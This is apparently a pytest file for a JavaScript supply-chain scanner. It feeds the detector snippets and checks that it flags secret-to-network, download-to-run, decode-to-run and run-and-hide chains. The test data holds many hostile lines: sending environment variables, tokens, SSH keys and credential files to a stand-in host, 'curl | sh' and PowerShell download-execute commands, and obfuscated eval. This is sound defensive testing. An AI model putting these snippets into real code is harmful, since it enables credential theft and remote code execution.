"""What belongs together is told, and what only stands together is not."""

from __future__ import annotations

import pytest

from tests.unit.releases.javascript.test_capabilities import told

HEAD = (
    "const https = require('https'), fs = require('fs'), os = require('os'), cp = require('child_process'),"
    " path = require('path');\n"
)

SENT = {
    "all variables, fetch": "fetch('https://c.example', {method: 'POST', body: JSON.stringify(process.env)})",
    "all variables, renamed": "const e = process.env; const b = {host: 1, e}; fetch('https://c.example', {method: 'POST', body: JSON.stringify(b)})",
    "all variables, spread": "fetch('https://c.example', {body: JSON.stringify({...process.env})})",
    "written to a request": "const r = https.request({hostname: 'c.example', method: 'POST'}, f); r.write(JSON.stringify(process.env)); r.end()",
    "ended with": "const r = https.request('https://c.example', f); r.end(Buffer.from(JSON.stringify(process.env)).toString('base64'))",
    "in the address": "https.get('https://c.example/?d=' + encodeURIComponent(JSON.stringify(process.env)))",
    "in a template": "https.get(`https://c.example/${btoa(process.env.NPM_TOKEN)}`)",
    "in a name that is looked up": "require('dns').lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('hex') + '.c.example', f)",
    "a named secret, axios": "require('axios').post('https://c.example', {t: process.env.GITHUB_TOKEN})",
    "a file of credentials": "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); fetch('https://c.example', {method: 'POST', body: t})",
    "by a callback": "fs.readFile(os.homedir() + '/.ssh/id_rsa', (e, data) => { fetch('https://c.example', {method: 'POST', body: data}) })",
    "through functions": (
        "function collect() { return {a: os.hostname(), env: process.env} }\n"
        "function send(d) { const r = https.request({host: 'c.example'}); r.write(JSON.stringify(d)) }\nsend(collect())"
    ),
    "added to an object": "const o = {}; o.env = process.env; fetch('https://c.example', {method: 'POST', body: JSON.stringify(o)})",
    "pushed to a list": "const l = []; l.push(fs.readFileSync(os.homedir() + '/.aws/credentials')); fetch('https://c.example', {body: l.join()})",
    "from a list of files": (
        "const out = ['.npmrc', '.netrc'].map(f => fs.readFileSync(path.join(os.homedir(), f), 'utf8'));\n"
        "fetch('https://c.example', {method: 'POST', body: JSON.stringify(out)})"
    ),
    "in a class": "class A { constructor() { this.e = process.env } go() { fetch('https://c.example', {body: JSON.stringify(this.e)}) } }",
    "by a socket": "const s = require('net').connect(1, 'c.example'); s.write(JSON.stringify(process.env))",
    "by a browser request": "const x = new XMLHttpRequest(); x.send(JSON.stringify(process.env))",
    "output of a command": "const t = cp.execSync('gh auth token').toString(); fetch('https://c.example', {method: 'POST', body: t})",
    "metadata": "fetch('http://169.254.169.254/latest/').then(r => r.text()).then(t => fetch('https://c.example', {method: 'POST', body: t}))",
    "written in brackets": "globalThis['fet' + 'ch']('https://c.example', {'bo\\x64y': JSON['stringify'](process['env'])})",
    "encrypted": (
        "const c = require('crypto').createCipheriv('aes-256-cbc', k, i); const d = c.update(JSON.stringify(process.env));"
        " fetch('https://c.example', {method: 'POST', body: d})"
    ),
}  # fmt: skip


@pytest.mark.parametrize("text", SENT.values(), ids=SENT)
def test_a_secret_that_flows_to_the_network(text: str) -> None:
    found = [one.attributes for one in told(HEAD + text) if one.kind == "chain.secret-to-network"]
    assert [one["within"] for one in found] == ["flow"], told(HEAD + text)
    assert str(found[0]["steps"]).endswith("network")
    assert found[0].get("carried") in {"body", "url"}


RUN = {
    "eval of a response": "https.get('https://p.example', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)) })",
    "then eval": "fetch('https://p.example').then(r => r.text()).then(eval)",
    "awaited": "async function f() { const r = await fetch('https://p.example'); const t = await r.text(); new Function(t)() }",
    "axios": "require('axios').get('https://p.example').then(r => eval(r.data))",
    "axios, awaited": "const a = require('axios'); (async () => { const {data} = await a.get('https://p.example'); eval(data.cookie) })()",
    "Function from the constructor": "fetch('https://p.example').then(r => r.json()).then(j => (new Function('require', j.code))(require))",
    "command from a response": "fetch('https://p.example').then(r => r.text()).then(t => cp.exec(t))",
    "curl to a shell": "cp.execSync('curl -fsSL https://p.example/i.sh | sh')",
    "powershell": "cp.exec(`powershell -c \"iwr https://p.example/a.ps1 | iex\"`)",
    "written and run": (
        "const out = path.join(os.tmpdir(), 'u.bin'); fetch('https://p.example').then(r => r.arrayBuffer())"
        ".then(b => { fs.writeFileSync(out, Buffer.from(b)); cp.execFile(out) })"
    ),
    "piped and run": (
        "const f = fs.createWriteStream('/tmp/u.bin'); https.get('https://p.example', r => { r.pipe(f);"
        " f.on('finish', () => cp.spawn('/tmp/u.bin', [], {detached: true})) })"
    ),
    "written and required": "fetch('https://p.example').then(r => r.text()).then(t => { fs.writeFileSync('./stage.js', t); require('./stage.js') })",
    "decoded too": "fetch('https://p.example').then(r => r.text()).then(t => eval(atob(t)))",
}  # fmt: skip


@pytest.mark.parametrize("text", RUN.values(), ids=RUN)
def test_what_is_fetched_and_run(text: str) -> None:
    found = [one.attributes for one in told(HEAD + text) if one.kind == "chain.download-to-run"]
    assert [one["within"] for one in found] == ["flow"], told(HEAD + text)
    assert str(found[0]["steps"]).startswith("download")


DECODED = {
    "eval of base64": "eval(Buffer.from('Y29uc29sZS5sb2coMSk7cHJvY2Vzcy5jd2QoKTs=', 'base64').toString())",
    "eval of atob": "eval(atob('Y29uc29sZS5sb2coMSk7cHJvY2Vzcy5jd2QoKTs='))",
    "by a name": "const code = 'Y29uc29sZS5sb2coMSk7cHJvY2Vzcy5jd2QoKTs='; const b = Buffer.from(code, 'base64'); const s = b.toString('utf8'); new Function(s)()",
    "hexadecimal": "const h = '636f6e736f6c652e6c6f672831293b'; require('vm').runInThisContext(Buffer.from(h, 'hex').toString())",
    "by a function": "function d(s) { return Buffer.from(s, 'base64').toString() } eval(d('Y29uc29sZS5sb2coMSk='))",
    "reversed": "eval(atob('KTEoZ29sLmVsb3Nub2M='.split('').reverse().join('').replace('=', '')))",
    "compressed": "eval(require('zlib').inflateSync(Buffer.from(x, 'base64')).toString())",
    "unknown text": "module._compile(Buffer.from(fs.readFileSync('x').toString(), 'base64').toString(), 'y')",
    "a command": "cp.exec(Buffer.from('d2hvYW1pIC0tYWxs', 'base64').toString())",
    "keyed": (
        "function x(s, k) { let o = ''; for (let i = 0; i < s.length; i++) { o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)) } return o }\n"
        "cp.exec(x(Buffer.from('1c03040a0602', 'hex').toString('latin1'), 'kkk'))"
    ),
}  # fmt: skip


@pytest.mark.parametrize("text", DECODED.values(), ids=DECODED)
def test_what_is_decoded_and_run(text: str) -> None:
    found = [one.attributes for one in told(HEAD + text) if one.kind == "chain.decode-to-run"]
    assert [one["within"] for one in found] == ["flow"], told(HEAD + text)


HIDDEN = {
    "deletes itself": "cp.exec('node x'); fs.unlinkSync(__filename)",
    "deletes itself by a command": "cp.exec('node x'); cp.exec(`rm -f ${__filename}`)",
    "swaps its manifest": "cp.spawn('node', ['x']); fs.renameSync('package.md', 'package.json')",
}


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_what_runs_and_hides(text: str) -> None:
    assert [one.kind for one in told(HEAD + text) if one.kind.startswith("chain")] == ["chain.run-and-hide"]


NONE = {
    "an address named after a token": "fetch(process.env.ID_TOKEN_REQUEST_URL)",
    "a port and a request": "fetch('http://127.0.0.1:' + process.env.PORT)",
    "an address from a variable": "const {API_URL} = process.env; fetch(API_URL + '/x', {method: 'POST', body: b})",
    "variables for a child": "cp.spawn('git', ['x'], {env: {...process.env, A: 1}}); fetch('https://a.example')",
    "one of a copy": "const env = {...process.env}; fetch(env.API_URL, {method: 'POST', body: x})",
    "a mode and a request": "if (process.env.NODE_ENV) fetch('https://a.example', {method: 'POST', body: x})",
    "two functions": "function a() { return process.env.NPM_TOKEN } function b() { return fetch('https://a.example', {body: 1}) }",
    "compiled from a template": "const f = new Function('a', 'return ' + names.join('+'))",
    "a module of WebAssembly": "WebAssembly.compile(Buffer.from(text, 'base64'))",
    "a download that is kept": "https.get(u, r => r.pipe(fs.createWriteStream('a.zip'))); cp.exec('ls')",
    "a response that is parsed": "fetch(u).then(r => r.json()).then(j => console.log(j))",
    "a file of its own and a process": "fs.unlinkSync(tmp); cp.exec('ls')",
    "settings written": "fs.writeFileSync('package.json', JSON.stringify(p)); cp.execSync('npm install')",
}  # fmt: skip


@pytest.mark.parametrize("text", NONE.values(), ids=NONE)
def test_what_only_stands_together_is_no_chain(text: str) -> None:
    assert [one for one in told(HEAD + text) if one.kind.startswith("chain")] == []


def test_a_token_in_a_header_is_told_as_such() -> None:
    text = "fetch('https://a.example', {headers: {authorization: `Bearer ${process.env.API_TOKEN}`}})"
    found = [one.attributes for one in told(text) if one.kind == "chain.secret-to-network"]
    assert [(one["carried"], one["secret"], one["destination"]) for one in found] == [
        ("header", "API_TOKEN", "hxxps://a[.]example")
    ]


def test_both_ends_in_one_function_are_told_as_weaker() -> None:
    text = "function go() { const t = fs.readFileSync(os.homedir() + '/.npmrc'); work(t); fetch('https://c.example', {method: 'POST', body: other}) }"
    found = [one.attributes for one in told(HEAD + text) if one.kind == "chain.secret-to-network"]
    assert [(one["within"], one["secret"]) for one in found] == [("function", "registry-token")]
